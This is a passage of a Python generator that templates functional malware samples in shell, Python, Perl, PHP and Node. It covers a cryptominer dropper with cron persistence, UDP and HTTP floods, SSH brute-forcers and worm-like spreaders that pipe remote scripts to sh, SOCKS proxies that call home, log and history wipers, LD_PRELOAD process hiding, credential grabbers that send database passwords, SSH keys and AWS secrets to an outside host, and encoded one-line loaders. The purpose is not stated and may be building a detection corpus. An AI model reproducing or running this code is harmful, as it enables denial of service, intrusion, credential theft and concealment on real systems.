shell_exec("cd $d && nohup ./a -c c.json > /dev/null 2>&1 &");
echo shell_exec('pgrep -fa ' . escapeshellarg("$d/a"));
""", DOM=dom(r), POOL=pool, W=wallet)
        return [F(code, webrel(r), "php", "uploads")]
    code = T("""#!/bin/sh
cpu=$(nproc); t=$((cpu > 1 ? cpu - 1 : 1))
P=@POOL@
W=@W@
[ -x /dev/shm/.m ] || wget -qO /dev/shm/.m http://@DOM@/m
chmod +x /dev/shm/.m
/dev/shm/.m -o $P -u $W -p $(hostname -s) -t $t -B --cpu-priority 0 >/dev/null 2>&1
""", POOL=pool, W=wallet, DOM=dom(r))
    return [script(r, "sh", code, shebang=""), F("*/15 * * * * pgrep -f /dev/shm/.m || sh $HOME/.cache/m.sh\n",
                                                  "var/spool/cron/crontabs/" + rw(r, 6), "crontab", "crontab")]


# 16 UDP floods
def udp_flood(r, v):
    if v == 0:
        code = """use Socket;
my ($ip, $port, $size, $time) = @ARGV;
my $iaddr = inet_aton($ip) or die "bad host\\n";
socket(F, PF_INET, SOCK_DGRAM, 17);
my $end = time + ($time || 60);
print "flooding $ip\\n";
for (; time <= $end;) {
    my $ps = $size ? $size : int(rand(1024 - 64) + 64);
    my $pt = $port ? $port : int(rand(65500)) + 1;
    send(F, pack("a$ps", "flood"), 0, pack_sockaddr_in($pt, $iaddr));
}
"""
        return [script(r, "perl", code)]
    if v == 1:
        code = """import socket, random, sys, time, threading
target, port, secs = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
data = random._urandom(1490)
def go():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    end = time.time() + secs
    while time.time() < end:
        s.sendto(data, (target, port or random.randint(1, 65535)))
for _ in range(int(sys.argv[4]) if len(sys.argv) > 4 else 8):
    threading.Thread(target=go).start()
"""
        return [script(r, "python", code)]
    code = """<?php
ignore_user_abort(TRUE);
set_time_limit(0);
$host = $_GET['host'];
$exec_time = (int) $_GET['time'];
$packets = 0;
$out = str_repeat('X', 65000);
$max_time = time() + $exec_time;
while (1) {
    $packets++;
    if (time() > $max_time) { break; }
    $rand = isset($_GET['port']) ? (int) $_GET['port'] : rand(1, 65000);
    $fp = fsockopen('udp://' . $host, $rand, $errno, $errstr, 5);
    if ($fp) { fwrite($fp, $out); fclose($fp); }
}
echo "<br><b>UDP</b> $packets packets (" . round(($packets * 65) / 1024, 2) . " MB) to $host";
"""
    return [F(code, webrel(r), "php", r.choice(("plain", "uploads")))]


# 17 HTTP floods and slowloris
def http_flood(r, v):
    if v == 0:
        code = """use IO::Socket::INET;
my ($host, $n, $to) = (shift, shift || 500, shift || 100);
my @s;
while (1) {
    for my $i (0 .. $n - 1) {
        next if $s[$i] && $s[$i]->connected;
        $s[$i] = IO::Socket::INET->new(PeerAddr => $host, PeerPort => 80, Proto => 'tcp', Timeout => 5) or next;
        print {$s[$i]} "GET /?" . int(rand(99999)) . " HTTP/1.1\\r\\nHost: $host\\r\\nUser-Agent: Mozilla/5.0\\r\\nContent-Length: 42\\r\\n";
    }
    for my $c (grep { $_ } @s) { print $c "X-a: b\\r\\n"; }
    sleep $to;
}
"""
        return [script(r, "perl", code)]
    if v == 1:
        code = """import threading, urllib.request, random, sys, string
url = sys.argv[1]
UA = ['Mozilla/5.0 (Windows NT 10.0; Win64; x64)', 'Mozilla/5.0 (X11; Linux x86_64)', 'Mozilla/5.0 (iPhone; CPU iPhone OS 16_0 like Mac OS X)']
def hit():
    while True:
        q = ''.join(random.choice(string.ascii_letters) for _ in range(8))
        try:
            urllib.request.urlopen(urllib.request.Request(url + '?' + q, headers={'User-Agent': random.choice(UA), 'Cache-Control': 'no-cache'}), timeout=5)
        except Exception:
            pass
for _ in range(int(sys.argv[2]) if len(sys.argv) > 2 else 200):
    threading.Thread(target=hit, daemon=True).start()
threading.Event().wait()
"""
        return [script(r, "python", code)]
    if v == 2:
        code = """<?php
set_time_limit(0); ignore_user_abort(1);
$url = $_REQUEST['u']; $end = time() + (int) $_REQUEST['t'];
$mh = curl_multi_init();
while (time() < $end) {
    $hs = array();
    for ($i = 0; $i < 50; $i++) {
        $h = curl_init($url . '?' . mt_rand());
        curl_setopt_array($h, array(CURLOPT_RETURNTRANSFER => 1, CURLOPT_TIMEOUT => 3, CURLOPT_NOBODY => 0, CURLOPT_FRESH_CONNECT => 1));
        curl_multi_add_handle($mh, $h); $hs[] = $h;
    }
    do { curl_multi_exec($mh, $run); } while ($run > 0);
    foreach ($hs as $h) { curl_multi_remove_handle($mh, $h); curl_close($h); }
}
echo 'done';
"""
        return [F(code, webrel(r), "php", "plain")]
    code = """const http = require('http');
const [, , target, secs = '60', conc = '300'] = process.argv;
const u = new URL(target);
const stop = Date.now() + secs * 1000;
function fire() {
  if (Date.now() > stop) return;
  const req = http.request({ host: u.hostname, port: u.port || 80, path: u.pathname + '?' + Math.random(), method: 'GET',
    headers: { 'User-Agent': 'Mozilla/5.0', Connection: 'keep-alive' } }, res => { res.resume(); fire(); });
  req.on('error', fire);
  req.end();
}
for (let i = 0; i < +conc; i++) fire();
"""
    return [script(r, "js", code)]


# 18 SSH brute forcers and spreaders
def ssh_brute(r, v):
    if v == 0:
        code = T("""import paramiko, sys, threading, queue
hosts = [h.strip() for h in open(sys.argv[1])]
creds = [l.strip().split(':', 1) for l in open(sys.argv[2])]
q = queue.Queue()
for h in hosts:
    for u, p in creds:
        q.put((h, u, p))
def w():
    while not q.empty():
        h, u, p = q.get()
        c = paramiko.SSHClient(); c.set_missing_host_key_policy(paramiko.AutoAddPolicy())
        try:
            c.connect(h, username=u, password=p, timeout=6, allow_agent=False, look_for_keys=False)
            open('.good', 'a').write('%s %s %s\\n' % (h, u, p))
            c.exec_command('curl -fsSL http://@D@/i | sh')
        except Exception:
            pass
        finally:
            c.close()
for _ in range(50):
    threading.Thread(target=w).start()
""", D=dom(r))
        return [script(r, "python", code)]
    if v == 1:
        code = T("""for h in $(cat ips.txt); do
  while IFS=: read -r u p; do
    if sshpass -p "$p" ssh -o StrictHostKeyChecking=no -o ConnectTimeout=5 "$u@$h" 'uname -a' >/dev/null 2>&1; then
      echo "$h:$u:$p" >> .ok
      sshpass -p "$p" ssh -o StrictHostKeyChecking=no "$u@$h" "curl -fsSL http://@D@/s | sh" &
      break
    fi
  done < pass.txt
done
""", D=dom(r))
        return [script(r, "sh", code)]
    if v == 2:
        code = T("""# spread with the keys found on this account
for k in ~/.ssh/id_*; do
  [ -f "$k" ] || continue
  case $k in *.pub) continue ;; esac
  for h in $(awk '{print $1}' ~/.ssh/known_hosts 2>/dev/null | tr ',' '\\n' | grep -v '^|' | sort -u) $(grep -oE '^Host(name)? +\\S+' ~/.ssh/config 2>/dev/null | awk '{print $2}'); do
    ssh -i "$k" -o BatchMode=yes -o StrictHostKeyChecking=no -o ConnectTimeout=4 "$h" "(curl -fsSL http://@D@/i || wget -qO- http://@D@/i) | sh" </dev/null &
  done
done
wait
""", D=dom(r))
        return [script(r, "sh", code)]
    code = T("""use strict;
my $ok = eval { require Net::SSH2; 1 } or die "need Net::SSH2\\n";
my @t = map { chomp; $_ } do { open my $f, '<', 'targets' or die; <$f> };
my @w = map { chomp; [split /:/] } do { open my $f, '<', 'words' or die; <$f> };
for my $h (@t) {
    for my $c (@w) {
        my $s = Net::SSH2->new(timeout => 5000);
        next unless $s->connect($h, 22);
        if ($s->auth_password($c->[0], $c->[1])) {
            open my $o, '>>', '.found'; print $o "$h $c->[0] $c->[1]\\n"; close $o;
            my $ch = $s->channel; $ch->exec('wget -qO- http://@D@/p | sh'); last;
        }
    }
}
""", D=dom(r))
    return [script(r, "perl", code)]


# 19 port scanners
def port_scan(r, v):
    if v == 0:
        code = """import socket, sys, ipaddress
from concurrent.futures import ThreadPoolExecutor
net = ipaddress.ip_network(sys.argv[1], strict=False)
PORTS = [21, 22, 23, 25, 80, 110, 143, 443, 445, 3306, 3389, 5432, 6379, 8080, 27017]
def probe(a):
    found = []
    for p in PORTS:
        s = socket.socket(); s.settimeout(0.4)
        if s.connect_ex((str(a), p)) == 0:
            found.append(p)
        s.close()
    return a, found
with ThreadPoolExecutor(200) as ex:
    for a, f in ex.map(probe, net.hosts()):
        if f:
            print(a, ' '.join(map(str, f)), flush=True)
"""
        return [script(r, "python", code)]
    if v == 1:
        code = """base=${1:-198.51.100}
for i in $(seq 1 254); do
  for p in 22 80 443 3306 8080; do
    (timeout 1 bash -c "echo >/dev/tcp/$base.$i/$p" 2>/dev/null && echo "$base.$i:$p open" >> .scan) &
  done
  wait
done
"""
        return [script(r, "sh", code)]
    if v == 2:
        code = """use IO::Socket::INET;
my ($h, $from, $to) = @ARGV;
$from ||= 1; $to ||= 1024;
for my $p ($from .. $to) {
    my $s = IO::Socket::INET->new(PeerAddr => $h, PeerPort => $p, Proto => 'tcp', Timeout => 1);
    if ($s) { my $b = ''; $s->recv($b, 128); print "$p open $b\\n"; close $s; }
}
"""
        return [script(r, "perl", code)]
    code = """<?php
$h = $_GET['h'] ?? '127.0.0.1';
$ports = isset($_GET['p']) ? explode(',', $_GET['p']) : range(1, 1024);
foreach ($ports as $p) {
    $f = @fsockopen($h, (int) $p, $en, $es, 0.5);
    if ($f) { echo "$h:$p open<br>"; fclose($f); flush(); }
}
"""
    return [F(code, webrel(r), "php", "plain")]


# 20 SOCKS / HTTP proxies
def proxy(r, v):
    p = r.choice((1080, 8118, 3128, 9050, 11080))
    if v == 0:
        code = T("""import socket, threading, struct, select
def pipe(a, b):
    ss = [a, b]
    while True:
        rr, _, _ = select.select(ss, [], [], 60)
        if not rr:
            break
        for s in rr:
            d = s.recv(8192)
            if not d:
                return
            (b if s is a else a).sendall(d)
def h(c):
    c.recv(262); c.sendall(b'\\x05\\x00')
    v, cmd, _, at = struct.unpack('!BBBB', c.recv(4))
    if at == 1:
        addr = socket.inet_ntoa(c.recv(4))
    else:
        addr = c.recv(c.recv(1)[0]).decode()
    port = struct.unpack('!H', c.recv(2))[0]
    r = socket.create_connection((addr, port))
    c.sendall(b'\\x05\\x00\\x00\\x01' + b'\\x00' * 6)
    pipe(c, r)
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(('0.0.0.0', @P@)); s.listen(128)
while True:
    cl, _ = s.accept()
    threading.Thread(target=h, args=(cl,), daemon=True).start()
""", P=p)
        return [script(r, "python", code)]
    if v == 1:
        code = T("""const net = require('net');
net.createServer(c => {
  c.once('data', d => {
    const m = d.toString().match(/^CONNECT ([^:]+):(\\d+)/);
    if (!m) return c.end();
    const up = net.connect(+m[2], m[1], () => { c.write('HTTP/1.1 200 Connection established\\r\\n\\r\\n'); up.pipe(c); c.pipe(up); });
    up.on('error', () => c.destroy());
  });
}).listen(@P@);
// report in
require('https').get('https://@D@/px?p=@P@&h=' + require('os').hostname());
""", P=p, D=dom(r))
        return [script(r, "js", code)]
    if v == 2:
        code = T("""# reverse tunnel: expose a SOCKS port on the operator's box
ssh -f -N -o StrictHostKeyChecking=no -o ServerAliveInterval=30 -i ~/.ssh/.k -R @P@ tun@@H@ 2>/dev/null ||
  (curl -fsSL http://@D@/g -o /tmp/.g && chmod +x /tmp/.g && /tmp/.g -socks5 -connect @H@:443 -key @K@ &)
""", P=p, H=ip(r), D=dom(r), K=hx(r, 12))
        return [script(r, "sh", code)]
    code = T("""use IO::Socket::INET;
use IO::Select;
$0 = '@FP@';
my $l = IO::Socket::INET->new(LocalPort => @P@, Listen => 50, ReuseAddr => 1) or die;
while (my $c = $l->accept) {
    next if fork;
    my $req = '';
    sysread($c, $req, 4096);
    my ($h, $pt) = $req =~ m{^(?:GET|POST|CONNECT) (?:http://)?([^/: ]+):?(\\d*)};
    my $u = IO::Socket::INET->new(PeerAddr => $h, PeerPort => $pt || 80) or exit;
    if ($req =~ /^CONNECT/) { print $c "HTTP/1.0 200 OK\\r\\n\\r\\n"; } else { print $u $req; }
    my $sel = IO::Select->new($c, $u);
    while (my @r = $sel->can_read(30)) {
        for my $s (@r) { my $b; sysread($s, $b, 8192) or exit; syswrite($s == $c ? $u : $c, $b); }
    }
    exit;
}
""", P=p, FP=fake_proc(r))
    return [script(r, "perl", code)]


# 21 log cleaners from a user account
def log_cleaner(r, v):
    a = ip(r)
    if v == 0:
        code = T("""for f in ~/logs/*access* ~/access-logs/* ~/logs/*.log; do
  [ -w "$f" ] || continue
  grep -v '@A@' "$f" > "$f.t" && cat "$f.t" > "$f" && rm -f "$f.t"
done
unset HISTFILE HISTSAVE HISTLOG
history -c; cat /dev/null > ~/.bash_history; ln -sf /dev/null ~/.bash_history
find ~ -name '*.php' -newer ~/.bashrc -exec touch -r ~/public_html/index.php {} \\;
""", A=a)
    elif v == 1:
        code = T("""import os, glob, re, time
IPS = re.compile(r'@AE@|/\\.cache/|wp-conf')
for p in glob.glob(os.path.expanduser('~/logs/*')) + glob.glob(os.path.expanduser('~/public_html/error_log')):
    try:
        st = os.stat(p)
        keep = [l for l in open(p, errors='ignore') if not IPS.search(l)]
        open(p, 'w').writelines(keep)
        os.utime(p, (st.st_atime, st.st_mtime))
    except OSError:
        pass
for h in ('.bash_history', '.mysql_history', '.python_history', '.lesshst', '.wget-hsts'):
    try:
        os.truncate(os.path.expanduser('~/' + h), 0)
    except OSError:
        pass
""", AE=a.replace(".", "\\."))
    elif v == 2:
        code = T("""use strict;
my $me = '@A@';
for my $f (glob("$ENV{HOME}/logs/* $ENV{HOME}/public_html/error_log $ENV{HOME}/tmp/*log*")) {
    my @a = stat $f or next;
    open my $in, '<', $f or next; my @l = grep { !/\\Q$me\\E|\\.cache\\/\\.x/ } <$in>; close $in;
    open my $out, '>', $f or next; print $out @l; close $out;
    utime $a[8], $a[9], $f;
}
unlink "$ENV{HOME}/.bash_history";
symlink '/dev/null', "$ENV{HOME}/.bash_history";
""", A=a)
    else:
        code = T("""export HISTFILE=/dev/null HISTSIZE=0
sed -i '/@AE@/d;/POST \\/wp-content\\/uploads/d' ~/logs/*.log ~/access-logs/* 2>/dev/null
: > ~/.bash_history
find ~/public_html -newermt '-2 hours' -type f -name '*.php' -exec touch -d '2021-03-04 10:12' {} +
rm -f -- "$0"
""", AE=a.replace(".", "\\."))
    return [script(r, ("sh", "python", "perl", "sh")[v], code)]


# 22 ld.so.preload / LD_PRELOAD hiding from a user account
def preload_hiding(r, v):
    so = r.choice(("$HOME/.cache/libsystemd-x.so", "/dev/shm/.libc.so.6", "$HOME/.local/lib/libnss_x.so", "/tmp/.ICE-unix/libpam.so"))
    if v == 0:
        code = T("""SO=@SO@
mkdir -p "$(dirname $SO)"
curl -fsSL http://@D@/h.so -o "$SO" || wget -qO "$SO" http://@D@/h.so
# try the system-wide way first, then the account's own
( echo "$SO" > /etc/ld.so.preload ) 2>/dev/null || {
  grep -q LD_PRELOAD ~/.bashrc || echo "export LD_PRELOAD=$SO" >> ~/.bashrc
  grep -q LD_PRELOAD ~/.profile 2>/dev/null || echo "export LD_PRELOAD=$SO" >> ~/.profile
}
export LD_PRELOAD=$SO
""", SO=so, D=dom(r))
        return [script(r, "sh", code)]
    if v == 1:
        code = T("""import os, subprocess
src = r'''
#define _GNU_SOURCE
#include <dirent.h>
#include <string.h>
#include <dlfcn.h>
static const char *hide = "@N@";
struct dirent *readdir(DIR *d) {
    struct dirent *(*orig)(DIR *) = dlsym(RTLD_NEXT, "readdir");
    struct dirent *e;
    while ((e = orig(d)) && strstr(e->d_name, hide)) {}
    return e;
}
'''
so = os.path.expanduser('@SO@'.replace('$HOME', '~'))
os.makedirs(os.path.dirname(so), exist_ok=True)
open('/tmp/.h.c', 'w').write(src)
subprocess.call(['gcc', '-shared', '-fPIC', '-o', so, '/tmp/.h.c', '-ldl'])
os.remove('/tmp/.h.c')
try:
    open('/etc/ld.so.preload', 'a').write(so + '\\n')
except PermissionError:
    with open(os.path.expanduser('~/.bashrc'), 'a') as f:
        f.write('export LD_PRELOAD=%s\\n' % so)
""", N=r.choice(("kworkerds", ".x", "php-fpm")), SO=so)
        return [script(r, "python", code)]
    code = T("""# wrap ps/top/netstat for this user
mkdir -p ~/.local/bin
for t in ps top netstat ss lsof; do
  real=$(command -v $t) || continue
  printf '#!/bin/sh\\n%s "$@" | grep -vE "@N@|@P@"\\n' "$real" > ~/.local/bin/$t
  chmod +x ~/.local/bin/$t
done
grep -q 'local/bin' ~/.bashrc || echo 'export PATH=$HOME/.local/bin:$PATH' >> ~/.bashrc
echo "export LD_PRELOAD=@SO@" >> ~/.bash_profile
""", N=r.choice(("kworkerds", "\\.cache/\\.x", "dbus-helper")), P=str(port(r)), SO=so)
    return [script(r, "sh", code)]


# 23 credential grabbers across the home dir
def cred_grabber(r, v):
    ex = "https://%s/%s" % (dom(r), r.choice(("up", "c.php", "api/collect")))
    if v == 0:
        code = T("""out=/tmp/.c$(id -u)
: > $out
for f in $(find /home/*/ ~ -maxdepth 4 \\( -name wp-config.php -o -name .my.cnf -o -name .env -o -name configuration.php -o -name settings.php -o -name .pgpass \\) 2>/dev/null); do
  echo "== $f" >> $out
  grep -aiE "DB_|pass|user|host|secret|key" "$f" >> $out 2>/dev/null
done
cat ~/.ssh/id_* ~/.aws/credentials ~/.git-credentials 2>/dev/null >> $out
curl -fsk -F "f=@$out" -F "h=$(hostname)" "@EX@" >/dev/null && rm -f $out
""", EX=ex)
        return [script(r, "sh", code)]
    if v == 1:
        code = T("""import os, re, json, glob, urllib.request, socket
pats = ['/home/*/public_html/wp-config.php', '/home/*/public_html/*/wp-config.php', '/home/*/.my.cnf',
        '/home/*/*/.env', os.path.expanduser('~/*/.env'), '/home/*/public_html/configuration.php']
rx = re.compile(r"(DB_(?:NAME|USER|PASSWORD|HOST)|password|user|APP_KEY|MAIL_PASSWORD|AWS_SECRET)\\W+([^'\\"\\n;]+)", re.I)
loot = {}
for p in pats:
    for f in glob.glob(p):
        try:
            loot[f] = rx.findall(open(f, errors='ignore').read())
        except OSError:
            pass
req = urllib.request.Request('@EX@', data=json.dumps({'h': socket.gethostname(), 'l': loot}).encode(), headers={'Content-Type': 'application/json'})
urllib.request.urlopen(req, timeout=20)
""", EX=ex)
        return [script(r, "python", code)]
    if v == 2:
        code = T("""<?php
$o = '';
foreach (glob('/home/*/public_html{,/*}/{wp-config.php,configuration.php,.env,app/etc/env.php}', GLOB_BRACE) as $f) {
    $c = @file_get_contents($f);
    if (!$c) continue;
    preg_match_all("/(DB_[A-Z]+|password|username|host)['\\"]?\\s*[,=>]+\\s*['\\"]([^'\\"]+)/i", $c, $m, PREG_SET_ORDER);
    foreach ($m as $x) { $o .= "$f\\t{$x[1]}\\t{$x[2]}\\n"; }
}
foreach (glob('/home/*/.my.cnf') as $f) { $o .= "$f\\n" . @file_get_contents($f); }
@file_get_contents('@EX@', false, stream_context_create(array('http' => array('method' => 'POST', 'content' => base64_encode($o)))));
echo strlen($o);
""", EX=ex)
        return [F(code, webrel(r), "php", "plain")]
    code = T("""use strict;
use File::Find;
my @hits;
find({ wanted => sub { push @hits, $File::Find::name if /^(wp-config\\.php|\\.my\\.cnf|\\.env|config\\.inc\\.php)$/ }, no_chdir => 0 },
     grep { -d } glob('/home/*'), $ENV{HOME});
my $buf = '';
for my $f (@hits) { open my $h, '<', $f or next; local $/; my $c = <$h>; $buf .= "### $f\\n" . join("\\n", $c =~ /^.*(?:PASS|USER|DB_|password).*$/mgi) . "\\n"; }
open(my $p, '|-', "curl -fsk --data-binary \\@- @EX@") or die;
print $p $buf;
close $p;
""", EX=ex)
    return [script(r, "perl", code)]


# 24 encoded one-line loaders in files
def encoded_loader(r, v):
    inner = "curl -fsSL http://%s/%s | sh" % (dom(r), r.choice(("a", "s.sh", "u")))
    if v == 0:
        code = "echo %s | base64 -d | bash\n" % b64(inner)
        return [script(r, "sh", code)]
    if v == 1:
        code = "import zlib,base64;exec(zlib.decompress(base64.b64decode('%s')))\n" % b64(
            __import__("zlib").compress(("import os;os.system(%r)" % inner).encode()))
        return [script(r, "python", code)]
    if v == 2:
        code = "eval(pack('H*','%s'));\n" % ("system(\"%s\");" % inner).encode().hex()
        return [script(r, "perl", code)]
    code = "eval \"$(printf '%s' | rev | base64 -d)\"\n" % b64(inner)[::-1]
    return [script(r, "sh", code)]


TECHS = (
    ("perl-irc-fork-spoof", perl_irc, 4),
    ("irc-bot-other-lang", irc_other, 4),
    ("python-connect-back", python_connect, 4),
    ("perl-connect-back", perl_connect, 3),
    ("bash-dev-tcp", dev_tcp, 4),
    ("fifo-socat-openssl-telnet", pipe_shells, 4),
    ("awk-ruby-node-php-connect", other_lang_connect, 4),
    ("bind-shell-listener", bind_shell, 4),
    ("http-poll-agent", http_poll, 4),
    ("dns-txt-channel", dns_txt, 4),
    ("dropper-run-delete", dropper, 4),
    ("watchdog-crontab", watchdog_cron, 4),
    ("shell-rc-hook", rc_hook, 4),
    ("systemd-user-unit", systemd_user, 4),
    ("cpu-coin-installer", miner_installer, 4),
    ("udp-flood", udp_flood, 3),
    ("http-flood-slowloris", http_flood, 4),
    ("ssh-guess-spread", ssh_brute, 4),
    ("port-scanner", port_scan, 4),
    ("socks-http-proxy", proxy, 4),
    ("log-cleaner", log_cleaner, 4),
    ("preload-hiding", preload_hiding, 3),
    ("config-credential-grabber", cred_grabber, 4),
    ("encoded-oneliner-loader", encoded_loader, 4),
)
